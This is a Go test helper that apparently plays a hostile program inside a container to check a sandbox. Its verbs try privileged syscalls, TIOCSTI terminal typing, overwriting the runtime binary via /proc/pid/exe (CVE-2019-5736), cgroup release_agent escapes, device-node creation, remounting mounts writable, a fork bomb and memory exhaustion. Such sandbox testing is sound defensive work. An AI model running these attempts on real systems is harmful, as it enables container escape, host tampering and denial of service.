// Attacker is what a hostile program in a container does: one try for each verb,
// told on standard output as "name outcome", the outcome "ok" or the errno's name.
// Tests run it inside, and outside to see that it would succeed.
package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	verbs := map[string]func([]string){
		"calls": calls, "calls32": calls32, "sockets": sockets, "tty": tty, "open": open, "exe": exe, "watchexe": watchexe,
		"stdio": stdio, "connect": connect, "impostor": impostor, "memory": memory,
		"cgroups": cgroups, "mknod": mknod, "unmount": unmount, "remount": remount, "fork": forkBomb,
	}
	verb := verbs[os.Args[1]]
	if verb == nil {
		fmt.Fprintln(os.Stderr, "no such attack")
		os.Exit(2)
	}
	verb(os.Args[2:])
}

func tell(name string, err error) {
	outcome := "ok"
	var errno syscall.Errno
	if errors.As(err, &errno) {
		if outcome = unix.ErrnoName(errno); outcome == "" {
			outcome = "errno" + strconv.Itoa(int(errno))
		}
	} else if err != nil {
		outcome = err.Error()
	}
	fmt.Println(name, outcome)
}

// raw makes a system call and returns its errno, nil for none.
func raw(nr uintptr, args ...uintptr) error {
	var a [6]uintptr
	copy(a[:], args)
	if _, _, errno := unix.RawSyscall6(nr, a[0], a[1], a[2], a[3], a[4], a[5]); errno != 0 {
		return errno
	}
	return nil
}

var buffer [4096]byte

func zero() uintptr { return uintptr(unsafe.Pointer(&buffer)) }

// calls tries the calls whose objects no namespace holds. Arguments are such that
// the kernel refuses none with EPERM or ENOSYS by itself, as root of the host.
func calls([]string) {
	name, _ := unix.BytePtrFromString("hutch")
	kind, _ := unix.BytePtrFromString("user")
	n, k := uintptr(unsafe.Pointer(name)), uintptr(unsafe.Pointer(kind))
	minus := ^uintptr(0)
	for _, c := range []struct {
		name string
		nr   uintptr
		args []uintptr
	}{
		{"add_key", unix.SYS_ADD_KEY, []uintptr{k, n, zero(), 4, ^uintptr(1)}}, // KEY_SPEC_PROCESS_KEYRING
		{"keyctl", unix.SYS_KEYCTL, []uintptr{0, ^uintptr(2), 1}},
		{"request_key", unix.SYS_REQUEST_KEY, []uintptr{k, n, 0, 0}},
		{"bpf", unix.SYS_BPF, []uintptr{0, zero(), 128}},
		{"perf_event_open", unix.SYS_PERF_EVENT_OPEN, []uintptr{zero(), 0, minus, minus, 0}},
		{"io_uring_setup", unix.SYS_IO_URING_SETUP, []uintptr{0, zero()}},
		{"io_uring_enter", unix.SYS_IO_URING_ENTER, []uintptr{minus}},
		{"io_uring_register", unix.SYS_IO_URING_REGISTER, []uintptr{minus}},
		{"userfaultfd", unix.SYS_USERFAULTFD, []uintptr{1 << 30}},
		{"open_by_handle_at", unix.SYS_OPEN_BY_HANDLE_AT, []uintptr{minus, zero(), 0}},
		{"kexec_load", unix.SYS_KEXEC_LOAD, []uintptr{0, 17, 0, 1 << 15}},
		{"kexec_file_load", unix.SYS_KEXEC_FILE_LOAD, []uintptr{minus, minus, 0, 0, 1 << 15}},
		{"init_module", unix.SYS_INIT_MODULE, []uintptr{zero(), 0, zero()}},
		{"finit_module", unix.SYS_FINIT_MODULE, []uintptr{minus, zero(), 0}},
		{"delete_module", unix.SYS_DELETE_MODULE, []uintptr{zero(), 0}},
		{"quotactl", unix.SYS_QUOTACTL, []uintptr{0x80000700, n, 0, zero()}},
		{"quotactl_fd", unix.SYS_QUOTACTL_FD, []uintptr{minus, 0x80000700, 0, zero()}},
		{"swapon", unix.SYS_SWAPON, []uintptr{n, 0}},
		{"swapoff", unix.SYS_SWAPOFF, []uintptr{n}},
		{"acct", unix.SYS_ACCT, []uintptr{n}},
		{"clock_settime", unix.SYS_CLOCK_SETTIME, []uintptr{99, zero()}},
		{"clock_adjtime", unix.SYS_CLOCK_ADJTIME, []uintptr{99, zero()}},
		{"settimeofday", unix.SYS_SETTIMEOFDAY, []uintptr{minus, 0}},
		{"iopl", unix.SYS_IOPL, []uintptr{77}},
		{"ioperm", unix.SYS_IOPERM, []uintptr{1 << 20, 1, 1}},
		{"syslog", unix.SYS_SYSLOG, []uintptr{10}},
		{"uselib", unix.SYS_USELIB, []uintptr{n}},
		{"lookup_dcookie", unix.SYS_LOOKUP_DCOOKIE, []uintptr{0, zero(), 1}},
	} {
		tell(c.name, raw(c.nr, c.args...))
	}
	// The table of x32 programs. A list of calls may end the thread for it.
	go func() {
		runtime.LockOSThread()
		tell("x32", raw(unix.SYS_GETPID|0x40000000))
	}()
	time.Sleep(100 * time.Millisecond)
}

func int80(nr, a, b, c uint32) uint32

func raw32(nr, a, b, c uint32) error {
	if r := int32(int80(nr, a, b, c)); r < 0 && r > -4096 {
		return syscall.Errno(-r)
	}
	return nil
}

// calls32 is calls by the table of 32 bit programs (arch/x86/entry/syscalls/
// syscall_32.tbl). getpid says whether there is such a table.
func calls32([]string) {
	const minus = 1<<32 - 1
	for _, c := range []struct {
		name        string
		nr, a, b, c uint32
	}{
		{"getpid", 20, 0, 0, 0},
		{"add_key", 286, 0, 0, 0}, {"keyctl", 288, 0, minus - 2, 1}, {"request_key", 287, 0, 0, 0}, {"bpf", 357, 0, 0, 128},
		{"perf_event_open", 336, 0, 0, minus}, {"io_uring_setup", 425, 0, 0, 0}, {"userfaultfd", 374, 1 << 30, 0, 0},
		{"open_by_handle_at", 342, minus, 0, 0}, {"kexec_load", 283, 0, 17, 0}, {"init_module", 128, 0, 0, 0},
		{"finit_module", 350, minus, 0, 0}, {"delete_module", 129, 0, 0, 0}, {"quotactl", 131, 0, 0, 0},
		{"swapon", 87, 0, 0, 0}, {"swapoff", 115, 0, 0, 0}, {"acct", 51, 1, 0, 0}, {"clock_settime", 264, 99, 0, 0},
		{"clock_settime64", 404, 99, 0, 0}, {"settimeofday", 79, minus, 0, 0}, {"stime", 25, minus, 0, 0}, {"iopl", 110, 77, 0, 0},
		{"ioperm", 101, 1 << 20, 1, 1}, {"vm86", 166, minus, 0, 0}, {"syslog", 103, 10, 0, 0}, {"socketcall", 102, 1, 0, 0},
		{"socket_vsock", 359, unix.AF_VSOCK, unix.SOCK_STREAM, 0}, {"socket_alg", 359, unix.AF_ALG, unix.SOCK_SEQPACKET, 0},
		{"ioctl_tiocsti", 54, 0, unix.TIOCSTI, 0}, {"ioctl_tioclinux", 54, 0, 0x541c, 0},
	} {
		tell(c.name, raw32(c.nr, c.a, c.b, c.c))
	}
}

func sockets([]string) {
	for family := range 50 {
		fd, err := unix.Socket(family, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err != nil && err != unix.ENOSYS {
			fd, err = unix.Socket(family, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
		}
		if err != nil && err != unix.ENOSYS {
			fd, err = unix.Socket(family, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
		}
		if err == nil {
			unix.Close(fd)
		}
		tell(strconv.Itoa(family), err)
	}
}

// tty types into the terminal that is our standard input.
func tty([]string) {
	typed := []byte("x")
	for _, high := range []uintptr{0, 1 << 32, 0xdeadbeef << 32, 1 << 63} {
		tell(fmt.Sprintf("tiocsti|%#x", high), raw(unix.SYS_IOCTL, 0, unix.TIOCSTI|high, uintptr(unsafe.Pointer(&typed[0]))))
		tell(fmt.Sprintf("tioclinux|%#x", high), raw(unix.SYS_IOCTL, 0, 0x541c|high, uintptr(unsafe.Pointer(&typed[0]))))
	}
	tell("tcgets", raw(unix.SYS_IOCTL, 0, unix.TCGETS, zero()))
}

// open opens each FLAGS:PATH and, where it can be written to, does.
func open(args []string) {
	for _, arg := range args {
		mode, path, _ := strings.Cut(arg, ":")
		flags := map[string]int{"r": unix.O_RDONLY, "w": unix.O_WRONLY, "a": unix.O_WRONLY | unix.O_APPEND, "rw": unix.O_RDWR, "d": unix.O_RDONLY | unix.O_DIRECTORY}[mode]
		fd, err := unix.Open(path, flags|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
		if err == nil {
			switch mode {
			case "w", "a":
				_, err = unix.Write(fd, []byte("1\n"))
			case "rw":
				_, err = unix.Pwrite(fd, []byte("1\n"), 0)
			case "r":
				var n int
				if n, err = unix.Read(fd, buffer[:]); err == nil && n == 0 {
					err = errors.New("empty")
				}
			}
			unix.Close(fd)
		}
		tell(arg, err)
	}
}

// exe ends the process whose command line has the given word and tries to write to
// the program that it ran (CVE-2019-5736), in every way that one can have it.
func exe(args []string) {
	pid := find(args[0])
	link := fmt.Sprintf("/proc/%d/exe", pid)
	held, err := unix.Open(link, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		tell("hold", err)
		return
	}
	tree, treeErr := unix.OpenTree(held, "", unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC|unix.AT_EMPTY_PATH)
	if len(args) == 1 {
		unix.Kill(pid, unix.SIGKILL)
		for range 500 {
			if unix.Kill(pid, 0) != nil {
				break
			}
			time.Sleep(time.Millisecond)
		}
	}
	through := fmt.Sprintf("/proc/self/fd/%d", held)
	for _, flags := range []int{unix.O_WRONLY, unix.O_RDWR, unix.O_WRONLY | unix.O_TRUNC, unix.O_WRONLY | unix.O_APPEND} {
		var fd int
		for range 100 {
			if fd, err = unix.Open(through, flags|unix.O_CLOEXEC, 0); err != unix.ETXTBSY {
				break
			}
			time.Sleep(time.Millisecond)
		}
		if err == nil && flags == unix.O_WRONLY|unix.O_APPEND {
			_, err = unix.Write(fd, []byte("spoiled"))
		}
		tell(fmt.Sprintf("open|%#x", flags), err)
	}
	tell("truncate", unix.Truncate(through, 1))
	tell("chmod", unix.Chmod(through, 0o6777))
	tell("chown", unix.Chown(through, 1, 1))
	tell("setxattr", unix.Setxattr(through, "user.x", []byte("x"), 0))
	tell("remount", unix.Mount("", through, "", unix.MS_REMOUNT|unix.MS_BIND, ""))
	tell("mount_setattr", unix.MountSetattr(held, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}))
	tell("open_tree", treeErr)
	if treeErr == nil {
		tell("mount_setattr of the clone", unix.MountSetattr(tree, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}))
	}
}

// watchexe grabs the program of every process that appears, until the given number of
// seconds has gone, and tells each that could be opened for writing and is not a
// file of the container's: one with another mount than any in ours.
func watchexe(args []string) {
	seconds, _ := strconv.Atoi(args[0])
	seen := map[string]int{}
	for end := time.Now().Add(time.Duration(seconds) * time.Second); time.Now().Before(end); {
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == os.Getpid() {
				continue
			}
			link := "/proc/" + e.Name() + "/exe"
			name, err := os.Readlink(link)
			if err != nil {
				continue
			}
			if seen[name]++; seen[name] > 50 {
				continue
			}
			fd, err := unix.Open(link, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			if seen[name] == 1 {
				fmt.Println("saw", name)
			}
			go func() { // it can be written to as soon as nobody runs it
				through := fmt.Sprintf("/proc/self/fd/%d", fd)
				for range 300 {
					w, err := unix.Open(through, unix.O_WRONLY|unix.O_CLOEXEC, 0)
					if err == nil {
						fmt.Println("writable", name)
						unix.Close(w)
						break
					}
					if err != unix.ETXTBSY {
						break
					}
					time.Sleep(10 * time.Millisecond)
				}
				unix.Close(fd)
			}()
		}
	}
}

// find returns the process whose command line has a word.
func find(word string) int {
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == os.Getpid() {
			continue
		}
		line, _ := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		for _, w := range strings.Split(string(line), "\x00") {
			if w == word {
				return pid
			}
		}
	}
	fmt.Println("find", "no process", word)
	os.Exit(1)
	return 0
}

// stdio says what our standard descriptors are, and tries to have more of them
// than was lent.
func stdio([]string) {
	for fd := range 3 {
		var st unix.Stat_t
		if err := unix.Fstat(fd, &st); err != nil {
			tell(fmt.Sprint("stat ", fd), err)
			continue
		}
		link, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
		fmt.Fprintf(os.Stderr, "is %d %#o %d:%d %d %s\n", fd, st.Mode&unix.S_IFMT, unix.Major(st.Rdev), unix.Minor(st.Rdev), st.Ino, link)
		for name, flags := range map[string]int{"r": unix.O_RDONLY, "w": unix.O_WRONLY, "rw": unix.O_RDWR, "d": unix.O_DIRECTORY} {
			again, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), flags|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
			outcome := "ok"
			if err != nil {
				outcome = unix.ErrnoName(err.(syscall.Errno))
			} else if flags != unix.O_RDONLY && flags != unix.O_DIRECTORY && fd == 0 {
				unix.Write(again, []byte("HACKED"))
			}
			if err == nil {
				unix.Close(again)
			}
			fmt.Fprintf(os.Stderr, "again %d %s %s\n", fd, name, outcome)
		}
		_, err := os.ReadDir(fmt.Sprintf("/proc/self/fd/%d/..", fd))
		fmt.Fprintf(os.Stderr, "above %d %v\n", fd, err == nil)
	}
	for fd := 3; fd < 256; fd++ {
		if link, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd)); err == nil && !strings.HasPrefix(link, "anon_inode:[event") {
			fmt.Fprintf(os.Stderr, "more %d %s\n", fd, link)
		}
	}
}

// connect connects to each abstract name.
func connect(args []string) {
	for _, name := range args {
		for kind, number := range map[string]int{"stream": unix.SOCK_STREAM, "seqpacket": unix.SOCK_SEQPACKET, "dgram": unix.SOCK_DGRAM} {
			fd, err := unix.Socket(unix.AF_UNIX, number, 0)
			if err == nil {
				err = unix.Connect(fd, &unix.SockaddrUnix{Name: "@" + name})
				unix.Close(fd)
			}
			tell(kind, err)
		}
	}
}

// memory takes memory without end.
func memory([]string) {
	for {
		block := make([]byte, 16<<20)
		for i := range block {
			block[i] = 1
		}
		kept = append(kept, block)
	}
}

var kept [][]byte

// forkBomb forks without end, every child too; those that get no more children stay.
func forkBomb([]string) {
	for {
		if _, _, errno := unix.RawSyscall(unix.SYS_FORK, 0, 0, 0); errno != 0 {
			unix.RawSyscall(unix.SYS_NANOSLEEP, uintptr(unsafe.Pointer(&unix.Timespec{Sec: 1})), 0, 0)
		}
	}
}

// cgroups mounts every hierarchy that the kernel has and tries to get out.
func cgroups(args []string) {
	os.MkdirAll("/tmp/cg", 0o755)
	for _, c := range []string{"memory", "pids", "devices", "cpu", "freezer", "none,name=systemd", "none,name=evil", "2"} {
		dir := "/tmp/cg/" + strings.ReplaceAll(c, ",", "_")
		os.Mkdir(dir, 0o755)
		kind, options := "cgroup", c
		if c == "2" {
			kind, options = "cgroup2", ""
		}
		if err := unix.Mount("x", dir, kind, 0, options); err != nil {
			tell("mount "+c, err)
			continue
		}
		// Whatever is seen must be our own part of the tree.
		for file, text := range map[string]string{
			"release_agent": "/tmp/x", "devices.allow": "a *:* rwm", "memory.limit_in_bytes": "-1", "pids.max": "max",
			"notify_on_release": "1", "tasks": "1", "freezer.state": "FROZEN", "cpu.shares": "1024", "memory.max": "max",
		} {
			fd, err := unix.Open(filepath.Join(dir, file), unix.O_WRONLY, 0)
			if err == nil {
				_, err = unix.Write(fd, []byte(text))
				unix.Close(fd)
			}
			tell("write "+c+" "+file, err)
		}
		tell("mkdir "+c, unix.Mkdir(filepath.Join(dir, "evil"), 0o755))
		unix.Rmdir(filepath.Join(dir, "evil"))
		if err := unix.Mount("x", dir, kind, unix.MS_REMOUNT, "release_agent=/tmp/x"); kind == "cgroup" {
			tell("remount "+c, err)
		}
		if up, err := os.ReadFile(filepath.Join(dir, "..", "cgroup.procs")); err == nil {
			fmt.Println("above", c, "ok", len(up))
		}
		unix.Unmount(dir, unix.MNT_DETACH)
	}
}

// mknod makes device nodes in each folder and opens them.
func mknod(args []string) {
	for _, dir := range args {
		for _, d := range []struct {
			name         string
			kind         uint32
			major, minor uint32
		}{{"mem", unix.S_IFCHR, 1, 1}, {"kmsg", unix.S_IFCHR, 1, 11}, {"tun", unix.S_IFCHR, 10, 200}, {"fuse", unix.S_IFCHR, 10, 229}, {"vda", unix.S_IFBLK, 254, 0}, {"loop0", unix.S_IFBLK, 7, 0}, {"null", unix.S_IFCHR, 1, 3}} {
			path := filepath.Join(dir, "evil-"+d.name)
			err := unix.Mknod(path, d.kind|0o666, int(unix.Mkdev(d.major, d.minor)))
			tell("mknod "+path, err)
			if err != nil {
				continue
			}
			fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NONBLOCK, 0)
			if err == nil {
				unix.Close(fd)
			}
			tell("open "+path, err)
			unix.Unlink(path)
		}
	}
}

// unmount takes away what covers each path, and reads what is below.
func unmount(args []string) {
	for _, path := range args {
		err := unix.Unmount(path, unix.MNT_DETACH)
		tell("unmount "+path, err)
	}
}

// remount makes each mount writable, in every way there is.
func remount(args []string) {
	for _, path := range args {
		tell("remount "+path, unix.Mount("", path, "", unix.MS_REMOUNT|unix.MS_BIND, ""))
		tell("setattr "+path, unix.MountSetattr(unix.AT_FDCWD, path, 0, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY | unix.MOUNT_ATTR_NOSUID | unix.MOUNT_ATTR_NODEV}))
		tree, err := unix.OpenTree(unix.AT_FDCWD, path, unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC)
		if err == nil {
			err = unix.MountSetattr(tree, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY | unix.MOUNT_ATTR_NOSUID | unix.MOUNT_ATTR_NODEV})
		}
		tell("clone "+path, err)
		copyDir := "/tmp/remount"
		os.Mkdir(copyDir, 0o755)
		if err := unix.Mount(path, copyDir, "", unix.MS_BIND, ""); err == nil {
			tell("bind "+path, unix.Mount("", copyDir, "", unix.MS_REMOUNT|unix.MS_BIND, ""))
			unix.Unmount(copyDir, unix.MNT_DETACH)
		}
		// In a mount namespace, and a user namespace, of one's own.
		fd, err := unix.Open(filepath.Join(path, "evil"), unix.O_CREAT|unix.O_WRONLY, 0o644)
		if err == nil {
			unix.Close(fd)
		}
		tell("create "+path, err)
	}
}
